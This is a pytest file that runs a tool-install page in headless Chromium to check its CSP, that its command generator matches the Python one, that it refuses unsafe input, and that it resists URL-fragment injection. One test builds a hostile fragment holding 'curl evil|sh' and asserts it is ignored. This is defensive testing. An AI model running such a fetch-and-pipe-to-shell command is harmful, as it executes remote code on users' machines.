"""The install page in headless Chromium (Debian's, never a downloaded browser): zero
console errors and CSP violations, the generator's outputs equal the Python ones, refused
input shows a reason, and a URL fragment never fills in a command."""

from __future__ import annotations

import functools
import http.server
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from toolpin.clients.install_links import CLIENTS, InstallRequest, install_links
from toolpin.site.install import write_install_page
from toolpin.site.render import environment

CHROMIUM = "/usr/lib/chromium/chromium"
CSP = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)


class _Handler(http.server.SimpleHTTPRequestHandler):
    def do_GET(self) -> None:
        if self.path == "/favicon.ico":  # the browser's own request, not the page's
            self.send_response(204)
            self.end_headers()
            return
        super().do_GET()

    def end_headers(self) -> None:
        self.send_header("Content-Security-Policy", CSP)
        super().end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    if not Path(CHROMIUM).exists() or shutil.which("chromium") is None:
        pytest.fail(
            "Debian's chromium is required for the browser tests (apt-get install chromium)"
        )
    root = tmp_path_factory.mktemp("site")
    write_install_page(
        environment(),
        root,
        {"checkpoint": {"size": 1, "root": "R", "time": "2026-11-06T12:00:00Z"}, "base_url": ""},
    )
    handler = functools.partial(_Handler, directory=str(root))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/install/"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def page_factory(site: str) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            yield browser
        finally:
            browser.close()


def _open(browser: Any, url: str) -> tuple[Any, list[str]]:
    page = browser.new_page()
    problems: list[str] = []
    page.on(
        "console", lambda m: problems.append(m.text) if m.type in ("error", "warning") else None
    )
    page.on("pageerror", lambda e: problems.append(str(e)))
    page.goto(url)
    page.wait_for_load_state("load")
    return page, problems


def _outputs(page: Any) -> dict[str, str]:
    return {c: page.locator(f"#out-{c}").text_content() for c in CLIENTS}


def test_generator_in_the_browser_matches_python(site: str, page_factory: Any) -> None:
    page, problems = _open(page_factory, site)
    argv = ["npx", "-y", "@scope/srv@1.0.0", 'it\'s a "dir"', "ünïcode 🦆", "a\\b"]
    page.fill(
        "#install-command", "npx -y @scope/srv@1.0.0 \"it's a \\\"dir\\\"\" 'ünïcode 🦆' 'a\\b'"
    )
    page.fill("#install-name", "")
    page.fill("#install-env", "API_KEY, OTHER")
    page.select_option("#install-launcher", "uvx")
    spec = page.get_attribute("#install-launcher", "data-uvx-spec")
    expected = install_links(
        InstallRequest(tuple(argv), "srv", ("API_KEY", "OTHER"), ("uvx", str(spec)))
    )
    assert _outputs(page) == expected.outputs
    assert page.get_attribute("#link-cursor", "href") == expected.outputs["cursor"]
    assert page.locator("#note-claude-desktop").text_content() == expected.notes["claude-desktop"]
    assert page.locator("#install-error").text_content() == ""
    assert problems == []
    page.close()


def test_refused_input_shows_a_reason_and_no_entry_changes(site: str, page_factory: Any) -> None:
    page, problems = _open(page_factory, site)
    before = _outputs(page)
    page.fill("#install-command", "node server.js $HOME")
    assert "'$'" in (page.locator("#install-error").text_content() or "")
    assert _outputs(page) == before
    page.fill("#install-command", "node 'unclosed")
    assert "No closing quotation" in (page.locator("#install-error").text_content() or "")
    assert problems == []
    page.close()


def test_a_fragment_never_fills_in_a_command(site: str, page_factory: Any) -> None:
    page, problems = _open(page_factory, site + "#server=0123456789abcdef&cmd=curl%20evil|sh")
    assert page.input_value("#install-command") == "npx -y @modelcontextprotocol/server-everything"
    note = page.locator("#install-from-log")
    assert note.is_visible()
    assert note.locator("a").get_attribute("href") == "../servers/0123456789abcdef.html"
    assert "curl" not in (page.content())
    page.close()
    page, _ = _open(page_factory, site + "#server=../../x")
    assert not page.locator("#install-from-log").is_visible()
    assert problems == []
    page.close()
